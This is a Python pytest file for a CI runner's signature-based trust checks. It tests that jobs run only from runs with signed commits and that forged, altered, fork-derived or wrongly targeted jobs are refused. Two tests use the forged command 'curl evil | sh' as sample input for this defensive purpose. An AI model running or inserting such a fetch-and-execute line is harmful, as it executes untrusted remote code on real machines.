"""What a runner executes: only what follows from a run whose every commit is signed, and nothing of forks."""

from dataclasses import replace
from pathlib import Path

import msgspec
import pytest

from dstack.ledger import records
from dstack.ledger.objects import Damaged
from dstack.ledger.push import RefUpdate
from dstack.ledger.submit import submit
from dstack.model import keys, refs
from dstack.model.errors import Invalid
from dstack.model.job import Reason
from dstack.model.observation import Observation, SetWanted
from dstack.model.plan import PlannedJob
from dstack.model.planner import make_plan
from dstack.model.pool import Attempt, Input
from dstack.model.runspec import Desired, Options, Trigger, TriggerEvent, Wanted
from runner.executor import Exit
from runner.held import Failure
from runner.judge import UNSET, Judge
from runner.trust import Trust, check_trust
from tests.agents import Office
from tests.duties import a_job, given_job
from tests.repositories import Place, bare, place, record_of, sh, spec, work
from tests.signers import MAIL, STRANGER, allowed, ssh_key

NAME = "fast-rabbit-1"
FLOW = """
workflows:
- name: data
  commands: [make]
  artifacts: [out]
- name: hello
  commands: [echo hello]
  depends-on: [data]
  env: {LEVEL: "1"}
"""
pytestmark = pytest.mark.keys


def prepared(tmp_path: Path) -> Place:
    top = work(tmp_path / "code")
    (top / ".dstack/workflows.yaml").write_text(FLOW)
    sh(top, "commit", "--quiet", "-am", "two workflows")
    sh(top, "remote", "add", "origin", str(bare(tmp_path / "remote.git")))
    sh(top, "push", "--quiet", "origin", "main")
    made = place(top, tmp_path / "cache")
    made.ledger.signing = ssh_key().signing()
    identity = records.write_id(made.cache.objects, "repository-1")
    assert made.cache.push([RefUpdate(refs.ID, None, identity)], atomic=True).won
    return made


@pytest.fixture
def here(tmp_path: Path) -> Place:
    return prepared(tmp_path)


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Place:
    """With a signed run; for tests that change nothing of it."""
    one = prepared(tmp_path_factory.mktemp("kept"))
    one.submit()
    return one


def judge(here: Place, tmp_path: Path, **more: bool) -> Judge:
    signers = allowed(tmp_path / "signers", f"{MAIL} {ssh_key().public}")
    trust = Trust(**{"signed": True, "signers": str(signers), **more})  # type: ignore[arg-type]
    return Judge(trust=trust, runner="otter", objects=lambda: here.cache.objects)


def jobs_of(here: Place) -> dict[str, PlannedJob]:
    record = record_of(here.ledger.observe())
    plan = make_plan(record.root, record.spec, record.workflows, record.variables)
    return {planned.job.workflow: planned for planned in plan.jobs}


def attempt_of(here: Place, planned: PlannedJob, name: str = NAME) -> Attempt:
    record = record_of(here.ledger.observe(), name)
    return Attempt(
        repository="repository-1",
        run=str(record.key),
        root=record.root,
        snapshot=record.spec.code.snapshot,
        job=planned.id,
        attempt=1,
        instance="i",
        nonce="n",
        inputs=tuple(Input(job=need.job, manifest="f" * 64, under=need.under) for need in planned.job.needs),
        log=keys.log(str(record.key), planned.id, 1),
        store="file:///s",
    )


def told(one: Judge, here: Place, attempt: Attempt, planned: PlannedJob, seen: Observation | None = None) -> str:
    seen = seen or here.ledger.observe()
    one.look(seen)
    found = one.verdict(attempt, planned.oid, planned.job, seen)
    if isinstance(found, Failure):
        assert found.reason in {Reason.SIGNATURE, Reason.REJECTED}
        return found.message
    return "later" if found is None else "runs"


def test_a_signed_run_is_executed_as_derived_from_its_root(kept: Place, tmp_path: Path) -> None:
    one, planned = judge(kept, tmp_path), jobs_of(kept)["hello"]
    seen = kept.ledger.observe()
    one.look(seen)
    forged = msgspec.structs.replace(planned.job, commands=("curl evil | sh",))
    assert one.verdict(attempt_of(kept, planned), planned.oid, forged, seen) == planned.job


def test_an_unsigned_run_one_of_a_stranger_and_one_with_an_unsigned_commit_are_refused(
    here: Place, tmp_path: Path
) -> None:
    one = judge(here, tmp_path)
    for name, signing, said in (
        ("plain-1", None, "only signed runs are executed here: commit {root}: it is not signed"),
        ("strange-1", ssh_key(STRANGER).signing(), "commit {root}: it is signed by a stranger (SHA256:"),
    ):
        here.ledger.signing = signing
        here.submit(name)
        record = record_of(here.ledger.observe(), name)
        (planned, *_) = make_plan(record.root, record.spec, record.workflows, None).jobs
        attempt = attempt_of(here, planned, name)
        assert said.format(root=record.root[:12]) in told(one, here, attempt, planned)
    here.ledger.signing = ssh_key().signing()
    here.submit()
    planned = jobs_of(here)["data"]
    assert told(one, here, attempt_of(here, planned), planned) == "runs"
    here.ledger.signing = None
    change = SetWanted(run=NAME, wanted=Wanted(desired=Desired.STOP))
    assert here.ledger.commit([change], here.ledger.observe(), atomic=True).won
    tip = record_of(here.ledger.observe()).tip
    assert f"commit {tip[:12]}: it is not signed" in told(one, here, attempt_of(here, planned), planned)


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"snapshot": "e" * 40}, "code (snapshot)"),
        ({"log": "logs/other"}, "log"),
        ({"job": "0" * 12}, "job"),
        ({"repository": "another"}, "repository"),
        ({"inputs": (Input(job="0" * 12, manifest="f" * 64),)}, "inputs"),
        ({"inputs": (Input(job="", manifest="f" * 64),)}, "inputs"),
    ],
)
def test_an_assignment_that_was_altered_is_refused(
    kept: Place, tmp_path: Path, changes: dict[str, object], said: str
) -> None:
    planned = jobs_of(kept)["hello"]
    altered = msgspec.structs.replace(attempt_of(kept, planned), **changes)
    answer = told(judge(kept, tmp_path), kept, altered, planned)
    assert answer == f"the assignment was altered: it contradicts the signed run in its {said}"


def test_an_input_that_is_given_twice_is_refused(kept: Place, tmp_path: Path) -> None:
    planned = jobs_of(kept)["hello"]
    good = attempt_of(kept, planned)
    twice = msgspec.structs.replace(good, inputs=(*good.inputs, *good.inputs))
    assert told(judge(kept, tmp_path), kept, good, planned) == "runs"
    assert told(judge(kept, tmp_path), kept, twice, planned).endswith("in its inputs")


def test_a_job_that_is_not_of_the_run_is_refused(kept: Place, tmp_path: Path) -> None:
    planned = jobs_of(kept)["hello"]
    job = msgspec.structs.replace(planned.job, commands=("curl evil | sh",))
    forged = PlannedJob(oid="b" * 40, job=job)
    attempt = msgspec.structs.replace(attempt_of(kept, planned), job=forged.id)
    assert "is no job of the signed run" in told(judge(kept, tmp_path), kept, attempt, forged)


def test_a_run_that_is_not_there_under_its_name_is_refused(kept: Place, tmp_path: Path) -> None:
    planned = jobs_of(kept)["hello"]
    attempt = msgspec.structs.replace(attempt_of(kept, planned), run="fast-rabbit-1.000000000000")
    assert "no run fast-rabbit-1.000000000000" in told(judge(kept, tmp_path), kept, attempt, planned)


def test_a_run_for_another_runner_alone_is_refused(here: Place, tmp_path: Path) -> None:
    snapshot = here.snapshot()
    only = msgspec.structs.replace(spec(NAME, snapshot.commit), options=Options(only="panda"))
    submit(here.ledger, snapshot, only)
    planned = jobs_of(here)["hello"]
    assert told(judge(here, tmp_path), here, attempt_of(here, planned), planned).endswith("in its runner")


def test_the_shared_settings_tighten_and_never_loosen(here: Place, tmp_path: Path) -> None:
    here.ledger.signing = None
    here.submit()
    planned = jobs_of(here)["hello"]
    seen = here.ledger.observe()
    open_, strict = Judge(runner="otter", objects=lambda: here.cache.objects), judge(here, tmp_path)
    assert told(open_, here, attempt_of(here, planned), planned, seen) == "runs"
    for text, may, why in ((b"signed: false", "runs", ""), (b"signed: true", "later", UNSET), (b"[", "later", UNSET)):
        assert told(open_, here, attempt_of(here, planned), planned, replace(seen, config=text)) == may
        assert open_.pause == why
        assert "it is not signed" in told(strict, here, attempt_of(here, planned), planned, replace(seen, config=text))


def test_signers_that_cannot_be_read_now_are_no_verdict(kept: Place, tmp_path: Path) -> None:
    planned, one = jobs_of(kept)["hello"], judge(kept, tmp_path)
    (tmp_path / "signers").rename(tmp_path / "away")
    assert told(one, kept, attempt_of(kept, planned), planned) == "later"
    assert "can't be read" in one.pause
    (tmp_path / "away").rename(tmp_path / "signers")
    assert told(one, kept, attempt_of(kept, planned), planned) == "runs"
    assert one.pause == ""


def test_a_commit_that_cannot_be_read_now_is_no_verdict(kept: Place, tmp_path: Path) -> None:
    planned, one = jobs_of(kept)["hello"], judge(kept, tmp_path)

    def broken() -> object:
        msg = "object x can't be read"
        raise Damaged(msg)

    one.objects = broken  # type: ignore[assignment]
    assert told(one, kept, attempt_of(kept, planned), planned) == "later"


@pytest.mark.parametrize("signed", [True, False])
def test_nothing_of_a_fork_is_executed_unless_the_runner_allows_it(
    here: Place, tmp_path: Path, *, signed: bool
) -> None:
    snapshot = here.snapshot()
    pull = Trigger(
        event=TriggerEvent.PULL_REQUEST, ref="refs/pull/1/head", commit=snapshot.commit, key="a" * 64, fork=True
    )
    submit(here.ledger, snapshot, msgspec.structs.replace(spec(NAME, snapshot.commit), trigger=pull))
    planned = jobs_of(here)["hello"]
    attempt = attempt_of(here, planned)
    assert "its code is from a fork" in told(judge(here, tmp_path, signed=signed), here, attempt, planned)
    open_ = judge(here, tmp_path, signed=signed, forks=True)
    assert told(open_, here, attempt, planned) == "runs"
    curious = PlannedJob(oid=planned.oid, job=msgspec.structs.replace(planned.job, secrets=("TOKEN",)))
    assert "which gets no secrets" in told(open_, here, attempt, curious)


def test_settings_that_make_no_sense_are_told() -> None:
    for trust, said in (
        (Trust(signed=True), "signers are missing"),
        (Trust(signers="signers"), "no absolute path"),
        (Trust(gnupg="gnupg"), "no absolute path"),
    ):
        with pytest.raises(Invalid, match=said):
            check_trust(trust)
    check_trust(Trust(signed=True, signers="/etc/signers", forks=True))


def test_a_runner_without_signers_begins_nothing_while_all_runs_must_be_signed_and_says_so(tmp_path: Path) -> None:
    office = Office(tmp_path)
    office.executor.ends["train"] = Exit(exit_code=0)
    one = given_job(a_job("train"))
    office.remote.refs[refs.CONFIG] = ("c" * 40, b"signed: true")
    office.assign(one)
    office.settle()
    assert office.heartbeat().pause == UNSET
    assert office.told(one) == []
    assert office.agent.held == {}
    del office.remote.refs[refs.CONFIG]
    office.settle(5.0)
    assert office.told(one) == ["started", "ended"]
    assert office.heartbeat().pause == ""


def test_what_runs_goes_on_when_its_run_is_not_trusted_any_more(tmp_path: Path) -> None:
    office = Office(tmp_path)
    one = given_job(a_job("train"))
    office.assign(one)
    office.settle()
    assert office.told(one) == ["started"]
    office.remote.refs[refs.CONFIG] = ("c" * 40, b"signed: true")
    office.settle(5.0)
    assert list(office.agent.held) == [one.attempt.key]
    office.want(one.attempt.key, Desired.STOP)
    office.executor.end(one.attempt.key, 0)
    office.settle(5.0)
    assert office.told(one) == ["started", "ended"]
